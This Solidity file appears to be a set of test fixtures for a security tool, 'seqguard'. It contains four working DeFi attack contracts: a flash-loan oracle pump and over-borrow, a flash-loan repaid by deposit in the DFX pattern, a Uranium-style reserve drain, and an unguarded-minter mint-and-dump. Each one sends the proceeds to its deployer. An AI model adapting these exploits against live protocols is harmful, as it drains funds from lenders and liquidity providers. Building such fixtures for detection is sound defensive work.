// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {TokenVault} from "./TokenVault.sol";
import {SpotLending} from "./SpotLending.sol";
import {RewardToken} from "./RewardToken.sol";

/// Swaps `amountIn` of `tokenIn` through `pair` to `to` at the pool's own price.
function swapThrough(Pair pair, address tokenIn, uint256 amountIn, address to) returns (uint256 out) {
    (uint256 r0, uint256 r1) = pair.getReserves();
    bool zeroIn = tokenIn == pair.token0();
    out = pair.getAmountOut(amountIn, zeroIn ? r0 : r1, zeroIn ? r1 : r0);
    require(IERC20(tokenIn).transfer(address(pair), amountIn));
    pair.swap(zeroIn ? 0 : out, zeroIn ? out : 0, to, "");
}

/// @title SpotOracleAttack: flash-borrow, pump the collateral's spot price, over-borrow.
/// @notice The attack on SpotLending, written for seqguard's tests: borrow `loan` of the
/// debt token from the vault, buy collateral with it (the pool's price jumps), post
/// `posted` collateral at the pumped price, borrow all the market will give, sell the
/// rest of the collateral back, repay the loan and keep the difference.
contract SpotOracleAttack is IFlashBorrower {
    TokenVault public immutable vault;
    Pair public immutable pair;
    SpotLending public immutable lending;
    address private immutable owner;
    uint256 private posted;

    constructor(TokenVault vault_, Pair pair_, SpotLending lending_) {
        (vault, pair, lending, owner) = (vault_, pair_, lending_, msg.sender);
    }

    function run(uint256 loan, uint256 posted_) external {
        posted = posted_;
        vault.flashLoan(loan, this, "");
        IERC20 debt = lending.debtToken();
        require(debt.transfer(owner, debt.balanceOf(address(this))));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        IERC20 debt = lending.debtToken();
        IERC20 col = lending.collateral();
        swapThrough(pair, address(debt), amount, address(this));
        col.approve(address(lending), posted);
        lending.deposit(posted);
        uint256 room = lending.maxDebt(address(this));
        uint256 cash = debt.balanceOf(address(lending));
        lending.borrow(room < cash ? room : cash);
        swapThrough(pair, address(col), col.balanceOf(address(this)), address(this));
        require(debt.transfer(address(vault), amount + fee));
    }
}

/// @title FlashDepositAttack: "repays" a TokenVault flash loan by depositing it.
/// @notice The DFX Finance pattern, written for seqguard's tests: the deposit restores the
/// vault's balance, so the loan passes as repaid, and the shares it minted are redeemed
/// for the vault's assets afterwards. Needs the fee in its own balance beforehand.
contract FlashDepositAttack is IFlashBorrower {
    TokenVault public immutable vault;
    address private immutable owner;

    constructor(TokenVault vault_) {
        (vault, owner) = (vault_, msg.sender);
    }

    function run(uint256 loan) external {
        vault.flashLoan(loan, this, "");
        vault.redeem(vault.balanceOf(address(this)));
        IERC20 asset = vault.asset();
        require(asset.transfer(owner, asset.balanceOf(address(this))));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        vault.asset().approve(address(vault), amount + fee);
        vault.deposit(amount + fee);
    }
}

/// @title KDrain: takes most of both reserves of a LeakyPair for dust, round after round.
/// @notice The Uranium Finance pattern, written for seqguard's tests. Holds a little of
/// each token beforehand.
contract KDrain {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(Pair pair, uint256 rounds) external {
        IERC20 t0 = IERC20(pair.token0());
        IERC20 t1 = IERC20(pair.token1());
        for (uint256 i = 0; i < rounds; i++) {
            (uint256 r0, uint256 r1) = pair.getReserves();
            require(t0.transfer(address(pair), r0 / 1000 + 1));
            pair.swap(0, r1 * 9 / 10, address(this), "");
            (r0, r1) = pair.getReserves();
            require(t1.transfer(address(pair), r1 / 1000 + 1));
            pair.swap(r0 * 9 / 10, 0, address(this), "");
        }
        require(t0.transfer(owner, t0.balanceOf(address(this))));
        require(t1.transfer(owner, t1.balanceOf(address(this))));
    }
}

/// @title MintAndDump: makes itself a RewardToken minter, prints tokens, sells them.
/// @notice Written for seqguard's tests: the unguarded `setMinter`, then a sale of the
/// freshly printed tokens into the pool for its other token.
contract MintAndDump {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(RewardToken token, Pair pair, uint256 amount) external {
        token.setMinter(address(this), true);
        token.mint(address(this), amount);
        address other = pair.token0() == address(token) ? pair.token1() : pair.token0();
        swapThrough(pair, address(token), amount, owner);
        require(IERC20(other).balanceOf(owner) > 0);
    }
}
